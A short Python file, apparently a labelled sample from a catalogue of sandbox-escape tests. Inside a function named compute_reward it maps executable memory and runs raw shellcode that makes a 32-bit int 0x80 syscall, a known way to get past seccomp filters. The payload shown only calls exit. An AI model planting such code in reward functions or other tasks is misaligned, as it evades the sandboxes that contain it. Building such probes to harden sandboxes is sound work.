# attack: the table of 32-bit calls
# group: syscalls
# wall: language; alone: seccomp

def compute_reward(x):
    import ctypes, os, socket
    lib = ctypes.CDLL(None, use_errno=True)
    code = bytes.fromhex('b801000000cd80c3')
    lib.mmap.restype = ctypes.c_void_p
    a = lib.mmap(None, 4096, 7, 0x22, -1, 0)
    if a and a != 2**64 - 1:
        ctypes.memmove(a, code, len(code))
        ctypes.CFUNCTYPE(None)(a)()
    return x, {}
